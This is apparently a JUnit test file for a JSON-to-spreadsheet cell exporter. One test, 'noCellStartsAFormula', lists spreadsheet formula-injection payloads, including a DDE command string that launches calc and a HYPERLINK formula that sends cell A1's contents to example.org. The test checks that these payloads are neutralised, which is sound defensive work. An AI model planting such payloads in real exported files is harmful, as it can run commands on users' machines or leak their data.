package io.rounds.export.table;

import static org.assertj.core.api.Assertions.assertThat;

import io.rounds.documents.Field;
import io.rounds.export.source.ListDocuments;
import io.rounds.export.text.SpreadsheetCells;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TableCellsTest {

    private static String cell(String json, String column) {
        return TableCells.of(ListDocuments.parse(json), Field.of(column, false));
    }

    @Test
    void aFieldInsideOfAnObjectHasItsPath() {
        assertThat(cell("{'author':{'handle':'em_doc'}}", "author.handle")).isEqualTo("em_doc");
        assertThat(cell("{'author':{}}", "author.handle")).isEmpty();
        assertThat(cell("{}", "author.handle")).isEmpty();
    }

    @Test
    void missingAndNullFieldsAreEmptyCells() {
        assertThat(cell("{'live_rank':null}", "live_rank")).isEmpty();
        assertThat(cell("{}", "live_rank")).isEmpty();
        assertThat(cell("{'hashtags':[]}", "hashtags")).isEmpty();
    }

    @Test
    void elementsOfListsAreJoinedUnambiguously() {
        assertThat(cell("{'hashtags':['foamed','meded']}", "hashtags")).isEqualTo("foamed|meded");
        assertThat(cell("{'urls':['a|b','c']}", "urls")).isEqualTo("a\\|b|c");
    }

    @Test
    void columnsOfTheSameListOfObjectsKeepTheirPlaces() {
        String tweet = "{'links':[{'url':'a','doi':'10.1'},{'url':'b'},{'url':'c','doi':'10.3'}]}";
        assertThat(cell(tweet, "links.url")).isEqualTo("a|b|c");
        assertThat(cell(tweet, "links.doi")).isEqualTo("10.1||10.3");
        assertThat(cell("{'hashtags':[{'tag':'foamed','count':12}]}", "hashtags.count"))
                .isEqualTo("12");
    }

    @Test
    void aListInAListIsJoinedWithSpaces() {
        assertThat(cell("{'questions':[{'answers':['x:1','x:2']},{'answers':[]}]}", "questions.answers"))
                .isEqualTo("x:1 x:2|");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "\uff1d1",
                "=cmd|'/c calc'!A1",
                "=HYPERLINK(\"http://example.org?x=\"&A1,\"a\")"
            })
    void noCellStartsAFormula(String text) {
        assertThat(SpreadsheetCells.safe(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "a=b", "'=1", "1-2", "\ud83d\ude91", "x:1", " a"})
    void otherTextsStayAsTheyAre(String text) {
        assertThat(SpreadsheetCells.safe(text)).isEqualTo(text);
    }

    @Test
    void listsAreSafeTooAndNumbersAreNoFormulas() {
        assertThat(cell("{'hashtags':['=1','b']}", "hashtags")).isEqualTo("'=1|b");
        assertThat(cell("{'points':-5}", "points")).isEqualTo("-5");
        assertThat(cell("{'surprise':1.5}", "surprise")).isEqualTo("1.5");
        assertThat(cell("{'verified':true}", "verified")).isEqualTo("true");
    }
}
